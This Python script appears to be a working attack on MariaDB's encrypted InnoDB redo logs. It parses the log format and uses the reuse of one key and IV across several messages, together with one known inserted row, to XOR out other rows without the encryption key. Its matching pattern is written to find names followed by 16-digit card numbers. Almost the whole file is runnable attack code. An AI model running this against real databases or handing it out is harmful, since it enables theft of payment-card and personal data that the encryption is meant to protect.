#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only
"""Reads rows in an encrypted redo log without any key: redo_log.py ib_logfile0 'ROW'

ROW is the text of one row that is in the log: its CHAR columns, padded with spaces, as InnoDB stores them. Whoever may insert a
row knows one. The server encrypts several messages with the same key and IV; where the cipher is a pad that is XORed with the
data, the XOR of two such messages is the XOR of their texts, and the known row gives the others. The log's structure (types,
lengths, IVs) is in plain text.

The format is that of MariaDB 10.8 and later, with both forms of encryption: one message for each mini-transaction (magic
f09f979d), or one for each record (magic 50687973).
"""
import re
import sys
from collections import defaultdict
from dataclasses import dataclass, field

MAGIC_MINI_TRANSACTION = bytes.fromhex("f09f979d")
MAGIC_RECORD = bytes.fromhex("50687973")
VERSION_AT = 52
START = 0x3000
NONCE = 8
BLOCK = 16
TYPE, EXTENDED, SAME_PAGE = 0x70, 0x20, 0x80
# what a card number and a name look like: enough to see which guess is right
ROW = re.compile(rb"[A-Z][a-z]+ [A-Z][a-z]+ *[0-9]{16}")
DIGITS = re.compile(rb"[0-9]+")


@dataclass
class Message:
    """What the server encrypted in one call: the ciphertext, and where records end in it that may be rows."""
    iv: bytes
    data: bytes = b""
    ends: list = field(default_factory=list)

    def row(self, size):
        """The ciphertext of the last bytes of the first record: there an inserted row ends."""
        return self.data[self.ends[0] - size:self.ends[0]]


def make_crc_table():
    table = []
    for value in range(256):
        for _ in range(8):
            value = value >> 1 ^ (0x82F63B78 if value & 1 else 0)
        table.append(value)
    return table


CRC_TABLE = make_crc_table()


def crc32c(data):
    crc = 0xFFFFFFFF
    for byte in data:
        crc = CRC_TABLE[(crc ^ byte) & 0xFF] ^ crc >> 8
    return crc ^ 0xFFFFFFFF


def varint(log, at):
    """A number of InnoDB's variable length, and its length in bytes."""
    first = log[at]
    for size, bits, base in ((1, 0x80, 0), (2, 0xC0, 0x80), (3, 0xE0, 0x4080), (4, 0xF0, 0x204080), (5, 0xF8, 0x10204080)):
        if first < bits:
            mask = 0xFF >> size
            return base + int.from_bytes(bytes([first & mask]) + log[at + 1:at + size], "big"), size
    raise ValueError(f"byte {at}: not a number")


def records(log, at):
    """The records of the mini-transaction that begins there, each (header, body), and where its end mark is."""
    found = []
    while log[at] > 1:
        begin, size = at, log[at] & 0x0F
        at += 1
        if size == 0:
            value, length = varint(log, at)
            size = value + 15 - length
            at += length
        found.append((log[begin:at], log[at:at + size]))
        at += size
    return found, at


def mini_transactions(log):
    """Each (records, nonce), from the begin of the file as long as the checksums are right."""
    at = START
    while True:
        try:
            found, end = records(log, at)
        except (IndexError, ValueError):
            return
        nonce = log[end + 1:end + 1 + NONCE]
        crc = log[end + 1 + NONCE:end + 5 + NONCE]
        if not found or crc32c(log[at:end] + nonce) != int.from_bytes(crc, "big"):
            return
        yield found, nonce
        at = end + 5 + NONCE


def messages(log):
    """All messages of the log."""
    if log[:4] not in (MAGIC_MINI_TRANSACTION, MAGIC_RECORD):
        raise ValueError("not an encrypted redo log of MariaDB 10.8 or later")
    split = of_mini_transaction if log[:4] == MAGIC_MINI_TRANSACTION else of_records
    return [message for found, nonce in mini_transactions(log) for message in split(found, nonce)]


def of_mini_transaction(found, nonce):
    """One message: the bodies of all records. The IV is the nonce and the first header."""
    message = Message((nonce + found[0][0]).ljust(BLOCK, b"\0"))
    for header, body in found:
        message.data += body
        if header[0] & TYPE == EXTENDED:
            message.ends.append(len(message.data))
    return [message]


def of_records(found, nonce):
    """A message for each record. The IV is the nonce and the page, which is in plain text with the first record of a page."""
    page = bytes(8)
    for header, body in found:
        if not header[0] & SAME_PAGE:
            space, size = varint(body, 0)
            number, more = varint(body, size)
            page = space.to_bytes(4, "big") + number.to_bytes(4, "big")
            body = body[size + more:]
        if body:
            yield Message(nonce + page, body, [len(body)] if header[0] & TYPE == EXTENDED else [])


def groups(log, size):
    """Messages of one IV and one length that can have a row of that size: lists of two and more."""
    found = defaultdict(list)
    for message in messages(log):
        if message.ends and message.ends[0] >= size:
            found[message.iv, len(message.data)].append(message)
    return [group for group in found.values() if len(group) > 1]


def xor(a, b):
    return bytes(x ^ y for x, y in zip(a, b))


def unmask(group, known, pattern):
    """What the other messages of the group have where one of them has the known bytes. Which one that is: the one that makes
    the most of the others plausible; if it makes few, the group has no such message."""
    size = len(known)
    best = []
    for mine in group:
        pad = xor(mine.row(size), known)
        texts = [xor(other.row(size), pad) for other in group if other is not mine]
        best = max(best, [text for text in texts if pattern.fullmatch(text)], key=len)
    return best if len(best) > max(2, len(group) // 2) else []


def read_rows(log, known):
    """The rows that a cipher gives away that XORs the data with a pad."""
    return [text for group in groups(log, len(known)) for text in unmask(group, known, ROW)]


def read_ends(log, known):
    """The ends of rows that a cipher gives away that XORs only the last, incomplete block with a pad."""
    texts = []
    for group in groups(log, len(known)):
        message = group[0]
        size = len(message.data) % BLOCK
        if size > 3 and message.ends == [len(message.data)]:
            texts += unmask(group, known[-size:], DIGITS)
    return texts


def key_version(log):
    """The version of key 1 with which the log is encrypted."""
    return int.from_bytes(log[VERSION_AT:VERSION_AT + 4], "big")


def main():
    with open(sys.argv[1], "rb") as file:
        log = file.read()
    known = sys.argv[2].encode()
    for text in read_rows(log, known) or read_ends(log, known):
        print(text.decode(errors="replace"))


if __name__ == "__main__":
    main()
